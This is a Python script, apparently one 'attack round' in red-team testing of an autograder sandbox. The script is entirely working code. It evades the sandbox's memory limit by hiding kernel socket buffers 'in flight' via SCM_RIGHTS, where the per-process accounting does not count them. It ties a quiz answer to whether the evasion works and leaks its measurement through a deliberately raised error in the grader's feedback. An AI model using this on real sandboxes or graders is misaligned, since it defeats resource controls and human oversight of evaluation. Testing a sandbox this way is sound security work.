# Attack round 9 (issue 4): kernel memory held by sockets no process has open.  bounds.kernel_buffer_bytes charges
# each socket and pipe a session holds open (read from /proc/PID/fd) at its full default size; a socket sent over
# a Unix socket with SCM_RIGHTS and then closed by its sender is "in flight": it is open in no process, yet the
# kernel keeps it, and the bytes queued in it, until the carrier's queue is read or the carrier is closed.  Each
# socket here is filled to its default buffer (what the filter still allows) and sent through a carrier pair;
# the kernel's cap on fds in flight is RLIMIT_NOFILE (256) per uid.  The fork server counts the carriers only
# (about 2 sockets per 278 in flight).  A torch tensor of FILL_MIB is resident beside them, so that with
# `--memory-mb 192` (Gradescope's allowance) the session holds more than its allowance while the check sees less.
# q1 is right exactly when more than TARGET_MIB were held in flight for HOLD_SECONDS.
import socket
import time

import torch

FILL_MIB = 138
TARGET_MIB = 40
HOLD_SECONDS = 3

def _resident_mib():
    with open("/proc/self/status") as f:
        return [int(line.split()[1]) >> 10 for line in f if line.startswith("VmRSS")][0]


start_mib = _resident_mib()
_fill = torch.ones(FILL_MIB * 1024 * 1024 // 4)  # resident, counted
in_flight = 0
queued = 0
_carriers = []
_chunk = b"\0" * 65536
carrier = None
while True:
    if carrier is None:
        carrier, sink = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        carrier.setblocking(False)
        _carriers.append((carrier, sink))
    try:
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    except OSError as exc:
        print("socketpair refused:", exc)
        break
    a.setblocking(False)
    try:
        while True:
            queued += a.send(_chunk)
    except (BlockingIOError, OSError):
        pass
    try:
        socket.send_fds(carrier, [b"."], [b.fileno()])
    except BlockingIOError:
        carrier = None  # this carrier's queue is full: the next one
        a.close()
        b.close()
        continue
    except OSError as exc:  # ETOOMANYREFS: the uid's fds in flight reached RLIMIT_NOFILE
        print("send_fds refused:", exc)
        a.close()
        b.close()
        break
    a.close()
    b.close()
    in_flight += 1

print(f"in flight: {in_flight} sockets holding {queued >> 20} MiB, through {len(_carriers)} carrier pairs")
rss_mib = _resident_mib()
time.sleep(HOLD_SECONDS)
q1_answer = "C" if queued >> 20 > TARGET_MIB else "A"
# the measurement, in the feedback of a failing cell (grades.json units): resident and in flight
raise RuntimeError(f"resident {rss_mib} MiB ({rss_mib - start_mib} MiB more than at the start), in flight {queued >> 20} MiB in {in_flight} sockets")
